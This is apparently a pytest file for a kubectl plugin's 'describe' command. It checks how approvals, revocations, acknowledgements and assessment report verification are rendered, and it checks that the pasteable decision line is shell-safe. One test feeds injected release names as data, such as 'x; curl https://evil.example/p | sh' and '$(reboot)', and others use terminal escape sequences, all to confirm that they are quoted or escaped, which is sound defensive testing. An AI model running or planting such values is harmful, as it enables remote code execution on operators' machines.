"""describe's rendering, in process and line for line: ``kubectl_aicr.commands.describe.render`` of rollouts
read by ``kubectl_aicr.aicr.objects`` from the fixture objects (tests/fixtures, loaded at a fixed time by
tests/support/fixture_objects.py), with their reports verified as describe verifies them.

tests/test_describe.py runs the same situations through the built file against the test API server and
checks the lines an approver needs; here every line of a section is given exactly, one table row a
situation (client-go's ``validation_test.go`` style). ``render`` gives lines; ``output.write_lines``
escapes each as it writes it, so what hostile text turns into is checked on what the writer prints.
"""

import datetime
import hashlib
import io
import json

import pytest

from kubectl_aicr import output
from kubectl_aicr.aicr import objects
from kubectl_aicr.commands import describe
from tests.support.fixture_objects import NOW, configmap, fixture, set_path
from tests.support.text import HOSTILE, clean

NAMESPACE = "aicr-system"
ESCAPED = r"x\x1b[2J\x1b]0;pwned\x07\x0d\x08\x9b31m\u202eevil\u2066\x0a\x00end"  # HOSTILE as the terminal shows it


def rendered(obj, now=NOW, report=None):
    """describe's lines for the rollout ``obj`` (a dict) at ``now``. Its report is the fixture ConfigMap
    its assessment digest names, or one holding the text ``report``; verified as describe verifies it."""
    rollout = objects.rollout(obj)
    digest = rollout.assessment_digest
    verified = None
    if isinstance(digest, str):
        name = objects.assessment_configmap_name(digest)
        found = configmap(NAMESPACE, name) if report is None else {"metadata": {"name": name},
                                                                    "data": {"report.json": report}}
        verified = objects.verify_report(found, digest, name)
    return describe.render(rollout, verified, NAMESPACE, now)


def printed(lines):
    """What the writer puts on a terminal for ``lines``: one str a line, newline-ended each."""
    stream = io.StringIO()
    output.write_lines(lines, stream)
    text = stream.getvalue()
    assert text.endswith("\n") or not lines
    return text[:-1].split("\n") if lines else []


def section(lines, first, end=None):
    """The lines from the first that starts with ``first`` up to the next that starts with ``end`` (None: to the
    last line; ``""``: that one line)."""
    starts = [index for index, line in enumerate(lines) if line.startswith(first)]
    assert starts, "no %r line in:\n%s" % (first, "\n".join(lines))
    after = range(starts[0] + 1, len(lines))
    stop = next((index for index in after if end is not None and lines[index].startswith(end)), len(lines))
    return lines[starts[0]:stop]


def with_report(role, text):
    """The fixture ``role`` recording, as its assessment, the digest of the report ``text``; and ``text``."""
    obj = fixture(role)
    obj["spec"]["assessment"] = {"digest": "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest()}
    return obj, text


def edited(role, changes):
    """The fixture ``role`` with ``changes`` ({dotted path: value}) made."""
    obj = fixture(role)
    for path, value in changes.items():
        set_path(obj, path, value)
    return obj


def emptied(role):
    """The fixture ``role`` with only its metadata left: every spec and status field absent."""
    obj = fixture(role)
    obj["spec"] = {}
    del obj["status"]
    return obj


def malformed(role):
    """The fixture ``role`` with a field of the wrong type or form in each place describe reads."""
    return edited(role, {"spec.to.desiredStateDigest": "md5:1", "status.phase": 5, "spec.deadline": "tomorrow",
                         "spec.approvalRequired": "yes", "spec.approval": ["x"], "spec.revocation": "no",
                         "spec.startingInventory": {"releases": -1, "digest": "md5:1"},
                         "spec.steps": [{"release": "a", "operation": 3}, "x"],
                         "spec.assessment.digest": "sha256:x", "spec.transitionRecords": "x",
                         "spec.acknowledgements": [7, {"release": "nvsentinel", "user": "bob", "time": "noon"}]})


AT = "Approval:            approved by alice@example.com until "
# (situation, the rollout (or the rollout and its report's text), when it is looked at, the section's first
# and next labels, its exact lines)
SECTIONS = [
    ("an approval pending", lambda: fixture("awaiting-approval"), NOW, "Name:", "Steps:", [
        "Name:                rollout-7953c836e83feab1-1",
        "UID:                 0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e02",
        "Runtime:             cluster (UID 6f0c1b2e-5d4a-4c3b-9a8f-7e6d5c4b3a21)",
        "Transition:          sha256:07ed50388c1d8b9f -> sha256:7953c836e83feab1",
        "Target plan:         sha256:7953c836e83feab1",
        "Phase:               AwaitingApproval",
        "Outcome:             <none>",
        "Deadline:            2026-11-30T16:00:00Z (in 4h0m)",
        "Approval:            required, pending",
        "Message:             2 steps are assessed manual; waiting for an approval.",
        "Starting inventory:  17 releases, sha256:e3b8c954ff4c96b6"]),
    ("an approval that expired, ended Expired", lambda: fixture("expired"), NOW, "Outcome:", "Message:", [
        "Outcome:             Expired",
        "Deadline:            2026-11-30T10:00:00Z (passed 2h0m ago)",
        AT + "2026-11-30T04:00:00Z (expired 8h0m ago)",
        "Approval reason:     Maintenance window"]),
    ("an approval that expired while rolling out", lambda: fixture("approved-rolling-out"),
     NOW + datetime.timedelta(minutes=150), "Phase:", "Message:", [
         "Phase:               RollingOut",
         "Outcome:             <none>",
         "Deadline:            2026-11-30T15:00:00Z (in 30m0s)",
         AT + "2026-11-30T14:00:00Z (expired 30m0s ago)",
         "Approval reason:     Maintenance window"]),
    ("a required approval never given, ended", lambda: edited("expired", {"spec.approval": None}),
     NOW, "Approval:", "Message:", ["Approval:            required, not given"]),
    ("a revoked rollout", lambda: fixture("revoked"), NOW, "Phase:", "Message:", [
        "Phase:               Completed",
        "Outcome:             Revoked",
        "Deadline:            2026-11-30T11:00:00Z (passed 1h0m ago)",
        AT + "2026-11-30T10:00:00Z (expired 2h0m ago)",
        "Approval reason:     Maintenance window",
        "Revocation:          revoked by bob@example.com at 2026-11-30T08:00:00Z (4h0m ago)",
        "Revocation reason:   Training job not checkpointed"]),
    ("awaiting an acknowledgement", lambda: fixture("awaiting-acknowledgement"), NOW, "Phase:", "Starting", [
        "Phase:               AwaitingAcknowledgement",
        "Outcome:             <none>",
        "Deadline:            2026-11-30T14:00:00Z (in 2h0m)",
        AT + "2026-11-30T13:30:00Z (expires in 1h30m)",
        "Approval reason:     Maintenance window",
        "Awaiting:            acknowledgement of nvsentinel",
        "Message:             nvsentinel is applied; waiting for its post-apply steps to be acknowledged."]),
    ("the acknowledgements given", lambda: fixture("awaiting-acknowledgement"), NOW, "Acknowledged:", "", [
        "Acknowledged: gpu-operator by bob@example.com at 2026-11-30T11:30:00Z"]),
    ("acknowledgements of an ended rollout, no decision left", lambda: fixture("succeeded"), NOW, "Acknowledged:",
     None, ["Acknowledged: nvsentinel by alice@example.com at 2026-10-31T15:00:00Z"]),
    ("a failed step and a skipped one", lambda: fixture("failed"), NOW, "Steps:", "Assessment:", [
        "Steps:",
        "  RELEASE        OPERATION  ASSESSMENT  CHANGES CRDS  STATE",
        "  kai-scheduler  Upgrade    safe        no            Failed: Deployment kai-scheduler: 0 of 2 replicas "
        "available.",
        "  dcgm-exporter  Remove     safe        no            Skipped"]),
    ("steps ready, in flight and pending", lambda: fixture("install"), NOW, "Steps:", "Assessment:", [
        "Steps:",
        "  RELEASE       OPERATION  ASSESSMENT  CHANGES CRDS  STATE",
        "  cert-manager  Install    safe        yes           Ready: Synced and healthy.",
        "  gpu-operator  Install    safe        yes           InFlight: Waiting for the driver daemonset (3 of 8 "
        "nodes ready).",
        "  nvsentinel    Install    safe        yes           Pending"]),
    ("the report's bytes do not match its digest", lambda: fixture("tampered-report"), NOW, "Assessment:", "Recorded", [
        "Assessment:  NOT VERIFIED, NOT SHOWN: the bytes of report.json in ConfigMap aicr-assessment-d40818a539780965 "
        "hash to sha256:67c857519adebf780225cf16f2fce9497b628799a87ef8a894f337907259368b, not to the recorded digest "
        "sha256:d40818a539780965d31e9a07442da28924f328e3c7974188097edb209abdb328"]),
    ("the report is missing", lambda: fixture("report-missing"), NOW, "Assessment:", "Recorded", [
        "Assessment:  NOT VERIFIED, NOT SHOWN: report ConfigMap aicr-assessment-a6f45a6d589042bd was not found"]),
    ("the report matches its digest but is not JSON", lambda: with_report("awaiting-approval", "not json"), NOW,
     "Assessment:", "Recorded", [
         "Assessment:  NOT VERIFIED, NOT SHOWN: report aicr-assessment-7ccfa1fbf3940e6f matches its digest but is "
         "not valid JSON"]),
    ("the recorded assessment digest is malformed", lambda: edited("no-assessment", {
        "spec.assessment.digest": "sha256:ABC"}), NOW, "Assessment:", "Recorded", [
        "Assessment:  NOT VERIFIED: <invalid spec.assessment.digest: not sha256:<64 lowercase hex>>"]),
    ("no report was made", lambda: fixture("no-assessment"), NOW, "Assessment", "Recorded", ["Assessment: none"]),
    ("a verified report with malformed content", lambda: with_report(
        "awaiting-approval", '{"from": "cluster", "components": {"gpu-operator": "safe"}}'), NOW, "Assessment:",
     "Recorded", [
         "Assessment:  aicr-assessment-3bd4f24594f96852 in aicr-system, verified against "
         "sha256:3bd4f24594f968521096684ff5245afa9f86beaac671a1227f63ccfbe09f831e",
         "  From:      cluster",
         "  To:        <none>",
         "  Deployer:  <none>",
         "  Summary:   <none>",
         "  Components:  <invalid components: a mapping>"]),
    ("a verified report, in full", lambda: fixture("expired"), NOW, "Assessment:", "Recorded", [
        "Assessment:  aicr-assessment-794ad085c5de8dad in aicr-system, verified against "
        "sha256:794ad085c5de8dade2b9ea715f5fb206390a0c00f9093d9a9adade72915b313c",
        "  From:      cluster",
        "  To:        oci://123456789012.dkr.ecr.us-west-2.amazonaws.com/aicr/prod/bundles:v0.16.1",
        "  Deployer:  argocd",
        "  Summary:   2 components, 1 failing",
        "  COMPONENT      CHANGE   VERSIONS        VERDICT  NOTES",
        "  kai-scheduler  version  0.9.2 -> 0.9.3  safe     1 patch, verified",
        "  nvsentinel     version  0.4.1 -> 0.5.0  manual   1 minor, 2 steps",
        "  kai-scheduler:",
        "    explanation:  recorded safe: the record covering 0.9.3 describes the move from 0.9.2 to 0.9.3, verified "
        "by \"uat: h100-eks-training\"",
        "  nvsentinel:",
        "    explanation:  recorded manual: the record covering 0.5.0 describes the move from 0.4.1 to 0.5.0. Follow "
        "the steps below, then apply",
        "    before:       No drain is in progress.",
        "    - pause-breaker: Pause the fault-remediation circuit breaker.",
        "      why: 0.5.0 restarts the controller, and a running breaker would cordon nodes mid-restart.",
        "    - reset-breaker: Reset the circuit breaker and check that the CircuitBreaker CRD is served.",
        "      why: The breaker state is not migrated; a tripped breaker stays tripped until reset."]),
    ("transition records", lambda: fixture("awaiting-acknowledgement"), NOW, "Recorded steps:", "Acknowledged:", [
        "Recorded steps:",
        "  gpu-operator 25.3.0 -> 25.10.0 (manual)",
        "    WHEN       STEP          WHAT",
        "    PostApply  check-driver  Check that every GPU node reports the new driver. (why: The driver daemonset "
        "restarts node by node.)",
        "  nvsentinel 0.4.1 -> 0.5.0 (manual)",
        "    before: No drain is in progress.",
        "    WHEN       STEP           WHAT",
        "    PreApply   pause-breaker  Pause the fault-remediation circuit breaker. (why: 0.5.0 restarts the "
        "controller, and a running breaker would cordon nodes mid-restart.)",
        "    PostApply  reset-breaker  Reset the circuit breaker and check that the CircuitBreaker CRD is served. "
        "(why: The breaker state is not migrated; a tripped breaker stays tripped until reset.)"]),
    ("every field absent", lambda: emptied("install"), NOW, "Name:", None, [
        "Name:                rollout-e8f313df82131fa9-1",
        "UID:                 0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e01",
        "Runtime:             <none>",
        "Transition:          none (initial install)",
        "Target plan:         <none>",
        "Phase:               <none>",
        "Outcome:             <none>",
        "Deadline:            <none>",
        "Approval:            <unknown: spec.approvalRequired is not set>",
        "Message:             <none>",
        "Starting inventory:  <none>",
        "Steps:  <none>",
        "Assessment: none",
        "Recorded steps:  <none>"]),
    ("every field malformed", lambda: malformed("awaiting-acknowledgement"), NOW, "Name:", None, [
        "Name:                rollout-9b1be94d38a77b42-1",
        "UID:                 0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e06",
        "Runtime:             cluster (UID 6f0c1b2e-5d4a-4c3b-9a8f-7e6d5c4b3a21)",
        "Transition:          sha256:07ed50388c1d8b9f -> <invalid spec.to.desiredStateDigest: not sha256:<64 lowercase "
        "hex>>",
        "Target plan:         <invalid spec.to.desiredStateDigest: not sha256:<64 lowercase hex>>",
        "Phase:               <invalid status.phase: a number>",
        "Outcome:             <none>",
        "Deadline:            <invalid spec.deadline: not an RFC 3339 time 'tomorrow'>",
        "Approval required:   <invalid spec.approvalRequired: a string 'yes'>",
        "Approval:            <invalid spec.approval: a list>",
        "Revocation:          <invalid spec.revocation: a string 'no'>",
        "Awaiting:            acknowledgement of nvsentinel",
        "Message:             nvsentinel is applied; waiting for its post-apply steps to be acknowledged.",
        "Starting inventory:  <invalid spec.startingInventory.releases: a negative number>, "
        "<invalid spec.startingInventory.digest: not sha256:<64 lowercase hex>>",
        "Steps:",
        "  RELEASE                                OPERATION                      ASSESSMENT  CHANGES CRDS  STATE",
        "  a                                      <invalid operation: a number>  <none>      <none>        Pending",
        "  <invalid spec.steps[1]: a string 'x'>  <none>                         <none>      <none>        <none>",
        "Assessment:  NOT VERIFIED: <invalid spec.assessment.digest: not sha256:<64 lowercase hex>>",
        "Recorded steps:  <invalid spec.transitionRecords: a string 'x'>",
        "Acknowledged: <invalid spec.acknowledgements[0]: a number>",
        "Acknowledged: nvsentinel by bob at <invalid time: not an RFC 3339 time 'noon'>"]),
]


@pytest.mark.parametrize("situation, make, now, first, end, expected", SECTIONS, ids=[row[0] for row in SECTIONS])
def test_sections(situation, make, now, first, end, expected):
    made = make()
    obj, report = made if isinstance(made, tuple) else (made, None)
    lines = rendered(obj, now, report)
    assert section(lines, first, end) == expected
    assert printed(lines) == lines  # plain text: the writer prints it as it is


DECIDE = "Decide on exactly this: kubectl aicr "
# (rollout, the decision describe offers to paste, bound to what it showed; None: it waits on no one's decision)
DECISIONS = [
    ("awaiting-approval", "approve rollout-7953c836e83feab1-1 --expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e02 "
     "--expect-digest=sha256:7953c836e83feab1 --expect-assessment=sha256:1fe4b7b6efde54dd --reason"),
    ("no-assessment", "approve rollout-7750c21af8247e72-1 --expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e0c "
     "--expect-digest=sha256:7750c21af8247e72 --reason"),
    ("approved-rolling-out", "revoke rollout-e218ed4ca55ec015-1 --expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e04 "
     "--expect-digest=sha256:e218ed4ca55ec015 --expect-assessment=sha256:794ad085c5de8dad --reason"),
    ("awaiting-acknowledgement", "acknowledge rollout-9b1be94d38a77b42-1 --release=nvsentinel "
     "--expect-uid=0d1e2f30-4a5b-4c6d-8e7f-9a0b1c2d3e06 --expect-digest=sha256:9b1be94d38a77b42 "
     "--expect-assessment=sha256:1fe4b7b6efde54dd"),
    ("install", None), ("revoked", None), ("expired", None), ("succeeded", None), ("failed", None),
]


@pytest.mark.parametrize("role, command", DECISIONS, ids=[row[0] for row in DECISIONS])
def test_the_decision_offered(role, command):
    lines = rendered(fixture(role))
    offered = [line for line in lines if line.startswith(DECIDE)]
    if command is None:
        assert offered == [] and lines[-1] != ""
    else:
        assert lines[-2:] == ["", DECIDE + command]
        assert offered == [DECIDE + command]


def test_malformed_facts_offer_no_decision():
    for path, value in (("metadata.uid", 7), ("spec.to.desiredStateDigest", "sha256:abc")):
        lines = rendered(edited("awaiting-approval", {path: value}))
        assert not [line for line in lines if line.startswith(DECIDE)], path


def decisions(lines):
    return [line for line in lines if line.startswith(DECIDE)]


def test_no_approve_line_once_the_deadline_has_passed():
    """approve without --expires takes the deadline as the approval's end, and refuses one that passed."""
    import datetime
    rollout = objects.rollout(fixture("no-assessment"))
    assert describe.binding_lines(rollout, None, None, rollout.deadline - datetime.timedelta(seconds=1))
    assert describe.binding_lines(rollout, None, None, rollout.deadline) == []


def test_no_decision_is_offered_that_the_command_would_refuse():
    """approve refuses an assessment report that does not verify (unless --allow-unverified-report), revoke a
    rollout that is Validating (operator-api.md rule 2): describe offers neither."""
    obj = fixture("awaiting-approval")
    tampered = rendered(obj, report='{"from": "cluster", "components": []}')
    assert decisions(tampered) == [] and [line for line in tampered if "NOT VERIFIED" in line]
    assert decisions(rendered(edited("approved-rolling-out", {"status.phase": "Validating"}))) == []
    assert decisions(rendered(edited("approved-rolling-out", {"status.phase": "Applying"})))


@pytest.mark.parametrize("release, pasted", [
    ("x; curl https://evil.example/p | sh", "'--release=x; curl https://evil.example/p | sh'"),
    ("$(reboot)", "'--release=$(reboot)'"), ("it's", "'--release=it'\"'\"'s'"),
    ("nv-sentinel_1.2", "--release=nv-sentinel_1.2"), ("--as-group", "--release=--as-group")])
def test_a_word_from_the_cluster_pastes_as_one_argument(release, pasted):
    """The decision line is shell: the release the rollout waits on (the cluster's text) is quoted so that
    pasting the line runs acknowledge with exactly that --release, nothing else."""
    import shlex
    obj = fixture("awaiting-acknowledgement")
    obj["status"]["awaitingAcknowledgement"]["release"] = release
    line, = decisions(rendered(obj))
    assert " %s --expect-uid=" % pasted in line
    words = shlex.split(line[len("Decide on exactly this: "):])
    assert words[:5] == ["kubectl", "aicr", "acknowledge", "rollout-9b1be94d38a77b42-1", "--release=" + release]


def test_the_line_is_offered_only_for_the_rollout_asked_for_under_a_valid_name():
    """A server answering a GET for one rollout with another object, or an object whose name could read as a
    flag, gets no line to paste."""
    obj = fixture("awaiting-acknowledgement")
    rollout = objects.rollout(obj)
    assert describe.binding_lines(rollout, None, "rollout-9b1be94d38a77b42-1")
    assert describe.binding_lines(rollout, None, "rollout-other-1") == []
    obj["metadata"]["name"] = "--as-group"
    assert decisions(rendered(obj)) == []


def test_pasted_as_it_is_approve_refuses_and_writes_nothing():
    """The line ends with --reason and no value: pasted without a reason, pflag's "flag needs an argument"."""
    import shlex
    from kubectl_aicr import cli
    from kubectl_aicr.errors import UsageError
    line, = decisions(rendered(fixture("awaiting-approval")))
    words = shlex.split(line[len("Decide on exactly this: "):])
    with pytest.raises(UsageError, match="flag needs an argument: --reason"):
        cli.parse(words[2:])
    assert cli.parse(words[2:] + ["window CHG-1"]).reason == "window CHG-1"


def test_a_word_that_cannot_be_shown_as_it_is_offers_no_line():
    obj = fixture("awaiting-acknowledgement")
    obj["status"]["awaitingAcknowledgement"]["release"] = HOSTILE
    assert decisions(rendered(obj)) == []


def hostile():
    """The awaiting-acknowledgement rollout with HOSTILE in every kind of place describe shows text: a field
    value, a table's first and last column, a record, an acknowledgement, its verified report."""
    report = '{"from": %s, "components": [{"component": %s, "change": "version", "from": "1", "to": "2", ' \
             '"verdict": "safe", "notes": %s}]}' % ((json.dumps(HOSTILE),) * 3)
    obj, report = with_report("awaiting-acknowledgement", report)
    obj["status"]["message"] = obj["spec"]["approval"]["user"] = HOSTILE
    obj["spec"]["steps"][0]["release"] = obj["status"]["steps"][0]["release"] = HOSTILE
    obj["status"]["steps"][0]["message"] = HOSTILE
    obj["spec"]["transitionRecords"][0]["steps"][0]["description"] = HOSTILE
    obj["spec"]["acknowledgements"][0]["user"] = HOSTILE
    return obj, report


def test_hostile_text_reaches_the_terminal_escaped_and_aligned():
    obj, report = hostile()
    lines = rendered(obj, report=report)
    shown = printed(lines)
    assert len(shown) == len(lines)  # no line broken by the newline inside HOSTILE
    assert clean("\n".join(shown))
    pad = " " * (len(ESCAPED) - len("RELEASE"))
    assert section(shown, "Approval:", "Starting") == [
        "Approval:            approved by %s until 2026-11-30T13:30:00Z (expires in 1h30m)" % ESCAPED,
        "Approval reason:     Maintenance window",
        "Awaiting:            acknowledgement of nvsentinel",
        "Message:             %s" % ESCAPED]
    assert section(shown, "Steps:", "Assessment:") == [
        "Steps:",
        "  RELEASE%s  OPERATION  ASSESSMENT  CHANGES CRDS  STATE" % pad,
        "  %s  Upgrade    manual      yes           Ready: %s" % (ESCAPED, ESCAPED),
        "  nvsentinel%s  Upgrade    manual      yes           Ready: Applied; post-apply steps pending." % pad[3:],
        "  kai-scheduler%s  Upgrade    safe        no            Pending" % pad[6:]]
    assert section(shown, "  From:", "  To:") == ["  From:      %s" % ESCAPED]
    assert section(shown, "  COMPONENT", "Recorded") == [
        "  COMPONENT%s  CHANGE   VERSIONS  VERDICT  NOTES" % pad[2:],
        "  %s  version  1 -> 2    safe     %s" % (ESCAPED, ESCAPED)]
    assert "    PostApply  check-driver  %s (why: The driver daemonset restarts node by node.)" % ESCAPED in shown
    assert "Acknowledged: gpu-operator by %s at 2026-11-30T11:30:00Z" % ESCAPED in shown


@pytest.mark.parametrize("seconds, shown", [
    (0, "0s"), (59, "59s"), (60, "1m0s"), (3599, "59m59s"), (3600, "1h0m"), (86399, "23h59m"),
    (86400, "1d0h"), (90061, "1d1h"), (59.9, "59s"), (-90, "1m30s"),
])
def test_human_duration(seconds, shown):
    assert describe.human_duration(seconds) == shown
